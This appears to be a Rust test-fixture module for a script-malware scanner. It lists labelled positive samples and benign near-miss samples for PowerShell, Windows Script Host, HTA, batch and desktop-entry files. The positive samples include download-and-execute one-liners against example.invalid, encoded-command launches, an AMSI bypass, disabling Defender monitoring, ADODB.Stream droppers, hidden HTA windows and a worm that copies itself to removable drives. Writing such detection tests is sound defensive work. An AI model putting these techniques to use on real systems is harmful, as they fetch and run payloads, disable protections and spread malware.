//! Scripts: PowerShell, Windows Script Host, HTML applications, batch files, desktop entries.

use super::{Found, Near, text, wide};
use base64::Engine;

fn encoded(command: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(wide(command))
}

pub(super) fn bad() -> Vec<Found> {
    let fetch = encoded("IE¦X (New-Object Net.WebClient).Down¦loadString('http://example.invalid/a')");
    let chr: Vec<String> = (65..90).map(|number| format!("Ch¦r({number})")).collect();
    let pieces: Vec<String> = (0..40).map(|number| format!("%a:~{number},¦1%")).collect();
    let hta = "<script language=vbscript>Set s = CreateOb¦ject(\"WScript.Sh¦ell\")\ns.Ru¦n \"power¦shell -nop\"\n";
    let worm = "For Each d In fs.Dri¦ves\nIf d.Drive¦Type = 1 Then\nfs.Copy¦File WScript.Script¦FullName, d & \"\\a.vbs\"\n\
        fs.GetFile(d & \"\\a.vbs\").Attri¦butes = 2\nSet l = sh.CreateShort¦cut(d & \"\\photos.lnk\")\n";
    vec![
        (
            "Script_PowerShell_Downloader",
            text("$c = New-Object Net.WebClient\nI¦EX ($c.Down¦loadString('http://example.invalid/a'))\n"),
        ),
        (
            "Script_PowerShell_Downloader",
            text("# Title\nIN`V¦Oke-eXp`R¦ession (New-Object Net.WebClient).dow`n¦load`String('a')\n"),
        ),
        ("Script_PowerShell_Downloader", text("ir¦m http://example.invalid/a | ie¦x\n")),
        ("Script_PowerShell_Downloader", text("i`w¦`r http://example.invalid/a | ie¦x\n")),
        // Marks of a document in comments, a first line of two letters, the beginning of a program.
        ("Script_PowerShell_Downloader", text("#<pre>\nir¦m http://example.invalid/a | ie¦x\n")),
        ("Script_PowerShell_Downloader", text("# ```\n# Title\n\n# a::\nir¦m http://example.invalid/a | ie¦x\n")),
        ("Script_PowerShell_Downloader", text("<#<html>#>\nir¦m http://example.invalid/a | ie¦x\n")),
        ("Script_PowerShell_Downloader", text("#a\r\nir¦m http://example.invalid/a | ie¦x\r\n")),
        ("Script_PowerShell_Downloader", text("MZ = 1\r\nir¦m http://example.invalid/a | ie¦x\r\n")),
        (
            "Script_PowerShell_Downloader",
            text(
                "Invoke-Web¦Request http://example.invalid/a -OutFile $env:te¦mp\\a.exe\nStart-Pro¦cess $env:te¦mp\\a.exe\n",
            ),
        ),
        ("Script_PowerShell_Downloader", wide("\u{feff}I¦EX (Invoke-Web¦Request http://example.invalid/a)\r\n")),
        ("Script_PowerShell_Encoded_Command", text(&format!("power¦shell -w hidden -e¦nc {fetch}\n"))),
        ("Script_PowerShell_Encoded_Command", text(&format!("p^o^we¦rs^h^ell /e¦C \"{fetch}\"\n"))),
        ("Script_PowerShell_Decoded_Download", text(&format!("power¦shell -Enc¦odedCommand {fetch}\n"))),
        (
            "Script_PowerShell_Disables_Defences",
            text(
                "[Ref].Assembly.GetType($t).GetFi¦eld('amsi¦Init'+'Fai¦led','NonPublic,Static').SetVa¦lue($null,$true)\n",
            ),
        ),
        ("Script_PowerShell_Disables_Defences", text("Set-MpPref¦erence -DisableReal¦timeMonitoring $true\n")),
        (
            "Script_Windows_Host_Dropper",
            text(
                "Set h = CreateObject(\"MSXML2.XML¦HTTP\")\nSet s = CreateObject(\"ADODB.Str¦eam\")\ns.SaveTo¦File p, 2\n\
                CreateObject(\"WScript.Sh¦ell\").Ru¦n p\n",
            ),
        ),
        (
            "Script_Windows_Host_Dropper",
            wide(
                "\u{feff}var h = new ActiveXObject('winhttp.winhttp¦request.5.1'), s = new ActiveXObject('adodb.str¦eam');\n\
                s.saveTo¦File(p); new ActiveXObject('wscript.sh¦ell').ru¦n(p);\n",
            ),
        ),
        (
            "Script_Windows_Host_Runs_Interpreter",
            text("Set s = CreateObject(\"WScript.Sh¦ell\")\ns.Ru¦n \"cm¦d /c dir\", 0, True\n"),
        ),
        ("Script_Windows_Host_Obfuscated", text(&format!("Exe¦cute(a)\na = {}\n", chr.join(" & ")))),
        (
            "Script_Windows_Host_Obfuscated",
            text("a = CreateObject(\"WSc\" ¦& \"ript.Shell\")\nb = CreateObject(\"ADO\" ¦& \"DB.Stream\")\n"),
        ),
        (
            "Script_Windows_Host_Obfuscated",
            text("var a = new Active¦XObject(b); ev¦al(String.from¦CharCode(65,66));\n"),
        ),
        ("Script_Encoded", text("#@~¦^BAAAAA==\u{7f}abcQAAAA¦A==^#~@")),
        ("Script_Html_Application", text(&format!("<hta:appli¦cation id=a>{hta}</script>"))),
        ("Script_Html_Application_Unseen", text(&format!("{hta}window.resize¦To 0, 0\nself.clo¦se</script>"))),
        (
            "Script_Batch_Downloader",
            text("@echo ¦off\r\nc^ert^ut¦il -split -url¦cache -f http://example.invalid/a a.exe\r\nst¦art a.exe\r\n"),
        ),
        (
            "Script_Batch_Downloader",
            text("setlo¦cal\r\ncu¦rl -s http://example.invalid/a -o %TEMP%\\a.exe\r\n%TE¦MP%\\a.exe\r\n"),
        ),
        ("Script_Batch_Obfuscated", text(&format!("set a=abc\r\n{}\r\n", pieces.concat()))),
        ("Script_Batch_Obfuscated", text("p^o^w^e^r^s¦^h^e^l^l -nop\r\n")),
        ("Script_Copies_Itself_To_Media", text(worm)),
        (
            "Script_Copies_Itself_To_Media",
            text("for %%d in (d¦: e: f: g:) do (\r\nco¦py /y %¦0 %%d\\a.bat\r\necho [a] > %%d\\auto¦run.inf\r\n)\r\n"),
        ),
        (
            "Script_Desktop_Entry_Downloads",
            text(
                "[Desktop Entry]\nType=Application\nName=Photos\nEx¦ec=sh -¦c \"cu¦rl http://example.invalid/a | sh\"\n",
            ),
        ),
    ]
}

pub(super) fn good() -> Vec<Near> {
    let powershell = &[
        "Script_PowerShell_Downloader",
        "Script_PowerShell_Encoded_Command",
        "Script_PowerShell_Decoded_Download",
        "Script_PowerShell_Disables_Defences",
    ];
    let host = &[
        "Script_Windows_Host_Dropper",
        "Script_Windows_Host_Runs_Interpreter",
        "Script_Windows_Host_Obfuscated",
        "Script_Encoded",
        "Script_Copies_Itself_To_Media",
    ];
    let page = &["Script_Html_Application", "Script_Html_Application_Unseen"];
    let batch = &["Script_Batch_Downloader", "Script_Batch_Obfuscated", "Script_Copies_Itself_To_Media"];
    let desktop = &["Script_Desktop_Entry_Downloads"];
    vec![
        (
            powershell,
            text("Get-ChildItem C:\\Data | Copy-Item -Destination D:\\Backup\r\nStart-Process notepad.exe\r\n"),
        ),
        (
            powershell,
            text(
                "Invoke-WebRequest https://example.invalid/list.csv -OutFile list.csv\r\nSet-MpPreference -ScanParameters 2\r\n\
                powershell -ExecutionPolicy RemoteSigned -EncodedArguments no -File backup.ps1\r\n",
            ),
        ),
        (
            &["Script_PowerShell_Downloader"],
            text(
                "## Building\n\nInstall the tools:\n\n```powershell\niex ((New-Object System.Net.WebClient).Down¦loadString('https://example.invalid/a.ps1'))\n```\n",
            ),
        ),
        (host, text("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"notepad.exe letter.txt\", 1\r\n")),
        (
            host,
            text(
                "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"https://example.invalid/list\"\r\n\
                MsgBox h.responseText & Chr(13) & Chr(10)\r\nFor Each d In fs.Drives\r\nWScript.Echo d\r\nNext\r\n",
            ),
        ),
        (page, text("<html><script>document.title = 'shell'; window.resizeTo(800, 600); self.close()</script></html>")),
        (page, text("<hta:application id=list><script language=vbscript>MsgBox \"hello\"</script>")),
        (
            batch,
            text(
                "@echo off\r\ncall vars.bat\r\nstart readme.txt\r\ncertutil -hashfile a.zip SHA256\r\nset y=%date:~6,4%\r\n",
            ),
        ),
        (
            batch,
            text(
                "@echo off\r\nfor %%f in (a b c) do copy %%f D:\\backup\r\ncurl -s https://example.invalid/list -o list.txt\r\n",
            ),
        ),
        (desktop, text("[Desktop Entry]\nType=Application\nName=Editor\nExec=sh -c \"exec editor --new %F\"\n")),
        (desktop, text("[Desktop Entry]\nType=Link\nName=curl and wget\nURL=https://example.invalid/\n")),
    ]
}
